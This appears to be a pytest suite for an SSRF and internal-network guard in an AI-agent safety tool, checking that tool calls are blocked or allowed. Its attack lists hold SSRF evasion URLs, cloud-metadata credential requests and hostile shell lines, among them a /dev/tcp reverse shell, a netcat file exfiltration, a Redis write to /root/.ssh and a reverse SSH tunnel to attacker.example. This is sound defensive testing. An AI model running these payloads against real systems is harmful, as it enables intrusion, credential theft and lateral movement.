"""internal_access (SSRF): real evasions are blocked, ordinary URLs and look-alikes pass."""

from __future__ import annotations

from typing import Any

import pytest

from sentinel_lab._analysis import analyse
from sentinel_lab._checks import Settings
from sentinel_lab._checks.internal_access import check

S = Settings(workspace="/home/dev/project")


def _v(tool: str, args: dict[str, Any], s: Settings = S) -> list:
    return check(analyse(tool, args), s)


ATTACKS = [
    ("fetch", {"url": "http://127.0.0.1/admin"}),
    ("fetch", {"url": "http://2130706433/"}),
    ("fetch", {"url": "http://0x7f000001/"}),
    ("fetch", {"url": "http://0177.0.0.1/"}),
    ("fetch", {"url": "http://127.1:8080/"}),
    ("fetch", {"url": "http://0x7f.1/"}),
    ("fetch", {"url": "http://[::1]/"}),
    ("fetch", {"url": "http://[::]:22/"}),
    ("fetch", {"url": "http://[::ffff:127.0.0.1]/"}),
    ("fetch", {"url": "http://[::ffff:7f00:1]/"}),
    ("fetch", {"url": "http://[0:0:0:0:0:ffff:127.0.0.1]/"}),
    ("fetch", {"url": "http://[fc00::1]/"}),
    ("fetch", {"url": "http://[fe80::1%25eth0]/"}),
    ("fetch", {"url": "http://[64:ff9b::10.0.0.1]/"}),
    ("fetch", {"url": "http://0.0.0.0:6379/"}),
    ("fetch", {"url": "http://0/"}),
    ("fetch", {"url": "http://localhost./"}),
    ("fetch", {"url": "http://LOCALHOST:8000/"}),
    ("fetch", {"url": "http://admin.localhost/"}),
    ("fetch", {"url": "http://localtest.me/"}),
    ("fetch", {"url": "http://127.0.0.1.nip.io/"}),
    ("fetch", {"url": "http://10.0.0.1.sslip.io/"}),
    ("fetch", {"url": "http://lvh.me:3000/"}),
    ("fetch", {"url": "https://good.com@127.0.0.1/"}),
    ("fetch", {"url": "http://good.com\\@127.0.0.1/"}),
    ("fetch", {"url": "http://127.0.0.1\\@good.com/"}),
    ("fetch", {"url": "http:/\\127.0.0.1/"}),
    ("fetch", {"url": "http://10.0.0.5:9200/_cat/indices"}),
    ("fetch", {"url": "http://172.16.4.4/"}),
    ("fetch", {"url": "http://192.168.1.1/cgi-bin/luci"}),
    ("fetch", {"url": "http://db.corp/"}),
    ("fetch", {"url": "http://jenkins.internal:8080/script"}),
    ("fetch", {"url": "gopher://127.0.0.1:6379/_FLUSHALL"}),
    ("fetch", {"url": "dict://evil.example:11211/stat"}),
    ("fetch", {"url": "file:///etc/passwd"}),
    ("fetch", {"url": "file:/etc/shadow"}),
    ("fetch", {"url": "netdoc:///etc/passwd"}),
    ("fetch", {"url": "jar:http://evil.example/x.jar!/"}),
    ("fetch", {"url": "ldap://10.0.0.2/dc=corp"}),
    ("fetch", {"url": "ftp://192.168.0.9/pub"}),
    ("fetch", {"url": "http%3A%2F%2F127.0.0.1%2Fadmin"}),
    ("fetch", {"url": "http://%31%32%37%2e%30%2e%30%2e%31/"}),
    ("fetch", {"url": "http://ｌｏｃａｌｈｏｓｔ/"}),
    ("fetch", {"url": "http://loca\u200blhost/"}),
    ("fetch", {"url": "aHR0cDovLzEyNy4wLjAuMTo4MDgwL2FkbWlu"}),  # base64 of http://127.0.0.1:8080/admin
    ("browser_navigate", {"target": "http://127.0.0.1:2375/containers/json"}),
    ("http_request", {"method": "GET", "endpoint": "http://[::1]:8500/v1/kv"}),
    ("connect", {"host": "0x7f.1", "port": 22}),
    ("db_connect", {"hostname": "192.168.10.20"}),
    ("fetch", {"url": "localhost:8080/admin"}),
    ("fetch", {"url": "//127.0.0.1/admin"}),
    ("bash", {"command": "curl -s http://127.0.0.1:9200/_search"}),
    ("bash", {"command": "wget -qO- http://[::ffff:a00:1]/"}),
    ("bash", {"command": "redis-cli -h 127.0.0.1 CONFIG SET dir /root/.ssh"}),
    ("bash", {"command": "nc 10.0.0.5 4444 < /tmp/x"}),
    ("bash", {"command": "ssh admin@192.168.1.20"}),
    ("bash", {"command": "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"}),
    ("bash", {"command": "curl localhost:2375/images/json"}),
    ("bash", {"command": "curl --resolve status.example.org:80:127.0.0.1 http://status.example.org/admin"}),
    ("bash", {"command": "curl --connect-to example.org:443:[::1]:8443 https://example.org/"}),
    ("run_python", {"code": "import requests\nrequests.get('http://localhost:8500/v1/agent/self')"}),
    ("fetch", {"urls": ["https://example.com", "http://127.0.0.1:8080/"]}),
    ("fetch", {"url": "http://jenkins:8080/script"}),
    ("fetch", {"url": "redis://cache:6379/0"}),
    ("bash", {"command": "curl http://internal-api/v1/users"}),
    ("fetch", {"url": "http://127.0.0.1%00.example.com/"}),
    ("fetch", {"url": "http://spoofed.burpcollaborator.net/"}),
    ("sql_query", {"query": "SELECT * FROM url('http://169.254.169.254/latest/meta-data', CSV)"}),
]

METADATA = [
    ("fetch", {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}),
    ("fetch", {"url": "http://[fd00:ec2::254]/latest/meta-data/"}),
    ("fetch", {"url": "http://metadata.google.internal/computeMetadata/v1/?recursive=true"}),
    ("fetch", {"url": "http://metadata/computeMetadata/v1/"}),
    ("fetch", {"url": "http://169.254.169.254/metadata/instance?api-version=2021-02-01"}),
    ("fetch", {"url": "http://100.100.100.200/latest/meta-data/"}),
    ("fetch", {"url": "http://169.254.170.2/v2/credentials/abc"}),
    ("fetch", {"url": "http://192.0.0.192/latest/"}),
    ("fetch", {"url": "https://kubernetes.default.svc/api/v1/secrets"}),
    ("fetch", {"url": "http://2852039166/latest/meta-data/"}),
    ("fetch", {"url": "http://0xa9fea9fe/"}),
    ("fetch", {"url": "http://0251.0376.0251.0376/"}),
    ("fetch", {"url": "http://[::ffff:169.254.169.254]/"}),
    ("fetch", {"url": "http://169.254.169.254.nip.io/"}),
    ("bash", {"command": "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/"}),
    ("bash", {"command": "TOKEN=$(curl -X PUT http://169.254.169.254/latest/api/token)"}),
]

BENIGN = [
    ("fetch", {"url": "https://example.com/docs/127.0.0.1-guide"}),
    ("fetch", {"url": "https://docs.python.org/3/library/ipaddress.html"}),
    ("fetch", {"url": "https://api.github.com/repos/python/cpython/commits?per_page=10"}),
    ("fetch", {"url": "https://8.8.8.8/resolve?name=example.com"}),
    ("fetch", {"url": "https://localhost.example.com/"}),
    ("fetch", {"url": "https://en.wikipedia.org/wiki/Localhost"}),
    ("fetch", {"url": "https://93.184.216.34.nip.io/"}),
    ("fetch", {"url": "https://metadata.example.com/v1/items"}),
    ("fetch", {"url": "https://172.32.0.1/"}),
    ("fetch", {"url": "https://good.com/?next=https://example.org/"}),
    ("release", {"version": "1.2.3.4", "notes": "Fixes a crash"}),
    ("release", {"version": "10.0.0.1"}),
    ("write_file", {"path": "README.md", "content": "Run `npm start` and open http://localhost:3000 in a browser."}),
    ("send_email", {"to": "team@example.com", "body": "Our SSRF filter now blocks 169.254.169.254 and ::1."}),
    ("search", {"query": "what is 127.0.0.1 used for"}),
    ("write_file", {"path": "docs/net.md", "content": "localhost"}),
    ("bash", {"command": "grep -rn 127.0.0.1 /home/dev/project/config"}),
    ("bash", {"command": "pip install requests==2.31.0 && python -m pytest -q"}),
    ("bash", {"command": "curl --max-time 10.5 https://example.com/health"}),
    ("bash", {"command": "git clone https://github.com/psf/requests.git"}),
    ("http_request", {"url": "https://api.example.com/v1/items", "timeout": "10.5", "retries": "3"}),
    ("fetch", {"url": "file:///home/dev/project/README.md"}),
    ("read_file", {"path": "/home/dev/project/notes/192.168.1.1.txt"}),
    ("chat", {"message": "Can you explain how localhost resolves?"}),
    ("bash", {"command": "kubectl port-forward svc/web 8080:80"}),
    ("bash", {"command": "docker run -d -p 8080:80 nginx && curl -sI https://example.com"}),
    ("bash", {"command": "sleep 10:30 ; curl https://example.com/cron?at=10:30:00"}),
    ("translate", {"text": "Guten Morgen", "target": "en"}),
    ("bash", {"command": "aws s3 cp dist/ s3://acme-web-static/ --recursive"}),
    ("send_email", {"to": "bob@example.com", "reply_to": "mailto:bob@example.com"}),
    ("ssh_exec", {"host": "build-box", "command": "make test"}),
]


@pytest.mark.parametrize(("tool", "args"), ATTACKS)
def test_internal_targets_are_blocked(tool: str, args: dict[str, Any]) -> None:
    vs = _v(tool, args)
    assert vs, args
    assert all(v.policy == "internal_access" and v.evidence for v in vs)


@pytest.mark.parametrize(("tool", "args"), METADATA)
def test_metadata_is_critical(tool: str, args: dict[str, Any]) -> None:
    vs = _v(tool, args)
    assert vs and vs[0].severity == "critical", vs
    assert "metadata" in vs[0].reason or "Kubernetes" in vs[0].reason


@pytest.mark.parametrize(("tool", "args"), BENIGN)
def test_benign_near_misses_pass(tool: str, args: dict[str, Any]) -> None:
    assert _v(tool, args) == []


def test_evidence_is_the_offending_url() -> None:
    (v,) = _v("fetch", {"url": "http://[::ffff:127.0.0.1]:8080/x"})
    assert v.evidence == "http://[::ffff:127.0.0.1]:8080/x"
    assert "127.0.0.1" in v.reason


def test_internal_hosts_setting_permits_named_hosts() -> None:
    dev = Settings(internal_hosts=("localhost", "10.0.0.0/8", "db.corp"))
    assert _v("fetch", {"url": "http://localhost:3000/api"}, dev) == []
    assert _v("fetch", {"url": "http://api.localhost:3000/"}, dev) == []
    assert _v("fetch", {"url": "http://10.2.3.4/"}, dev) == []
    assert _v("fetch", {"url": "http://db.corp/"}, dev) == []
    assert _v("fetch", {"url": "http://192.168.0.1/"}, dev)
    assert _v("fetch", {"url": "http://169.254.169.254/"}, dev)
    # the permitted name does not leak to look-alikes
    assert _v("fetch", {"url": "http://127.0.0.2/"}, Settings(internal_hosts=("127.0.0.1",)))


def test_file_urls_inside_the_workspace_pass_outside_block() -> None:
    assert _v("fetch", {"url": "file:///home/dev/project/src/a.py"}) == []
    assert _v("fetch", {"url": "file:///home/dev/project/../../../etc/passwd"})
    assert _v("fetch", {"url": "file:///home/dev/project-secrets/key"})
    assert _v("fetch", {"url": "file:///home/dev/project/a.py"}, Settings())


def test_odd_input_never_raises() -> None:
    for args in [
        {"url": ""},
        {"url": "http://"},
        {"url": "http://[::1"},
        {"url": "http://[zz]/"},
        {"url": "http://a:99999999999/"},
        {"host": "[]"},
        {"url": "://"},
        {"url": "http://%zz/"},
        {"url": "http://" + "a" * 70 + ".com/"},
        {"url": "http://xn--/"},
        {"url": "http://\udcff/"},
    ]:
        _v("fetch", args)


# --- listen addresses, remote shells to loopback, placeholder names -------------------------------------------


@pytest.mark.parametrize(
    "cmd",
    [
        "python -m http.server 8000 --bind 127.0.0.1",
        "uvicorn app:app --host 0.0.0.0 --port 8000",
        "npm run dev -- --host 0.0.0.0",
        "ssh localhost",
        "ssh -N -L 5432:127.0.0.1:5432 localhost",
        "scp file.txt localhost:/tmp/",
        "rsync -av build/ localhost:/srv/app/",
        "curl http://example/api",
        "ssh user@host",
        "curl http://server:8080/status",
    ],
)
def test_listen_addresses_loopback_logins_and_placeholders_pass(cmd: str) -> None:
    assert _v("run_shell", {"command": cmd}) == []


@pytest.mark.parametrize(
    "cmd",
    [
        "curl http://localhost:8080/admin",
        "curl http://intranet/api",
        "ssh user@192.168.1.20",
        "ssh attacker.example -R 9000:localhost:22",
        "ssh -L 8080:169.254.169.254:80 localhost",
        "curl --bind 127.0.0.1 http://10.0.0.5/admin",
        "redis-cli -h 127.0.0.1 flushall",
    ],
)
def test_requests_lateral_moves_and_reverse_tunnels_stay_blocked(cmd: str) -> None:
    assert _v("run_shell", {"command": cmd}) != []


ADMIN = Settings(workspace="/home/dev/project", profile="admin")


@pytest.mark.parametrize("cmd", ["ssh alice@10.0.0.1 -p 2222", "scp report.txt ops@192.168.1.20:/srv/", "ssh fd00::1"])
def test_admin_profile_logs_in_to_its_own_network(cmd: str) -> None:
    assert _v("run_shell", {"command": cmd}) != []  # lateral movement for an agent confined to its project
    assert _v("run_shell", {"command": cmd}, ADMIN) == []


@pytest.mark.parametrize(
    "cmd",
    [
        "ssh 169.254.169.254",  # metadata / link-local: never a machine to administer
        "curl http://192.168.1.4/admin",  # a request, not a log-in
        "ping -c1 192.168.1.1",
        "ssh -L 8080:169.254.169.254:80 10.0.0.2",
        "ssh -R 9000:localhost:22 10.0.0.2",
    ],
)
def test_admin_profile_still_blocks_requests_metadata_and_tunnels(cmd: str) -> None:
    assert _v("run_shell", {"command": cmd}, ADMIN) != []


def test_a_url_whose_port_is_a_word_resolves_no_local_name() -> None:
    """``http://[ipv6]:port`` (a documentation placeholder): every client refuses a port that is a word, so its
    single-label host is looked up nowhere; what is internal by its name or address stays a violation."""
    assert _v("run_shell", {"command": "curl 'http://[ipv6]:port'"}) == []
    assert _v("fetch", {"url": "http://buildbox:port/status"}) == []
    assert _v("fetch", {"url": "http://localhost:port/"}) != []
    assert _v("fetch", {"url": "http://10.0.0.5:port/"}) != []
    assert _v("fetch", {"url": "http://buildbox:80x/"}) != []  # not a word: judged as written
    assert _v("fetch", {"url": "http://[intranet]/"}) != []  # some clients strip the brackets and resolve it
    assert _v("fetch", {"url": "http://intranet/"}) != []
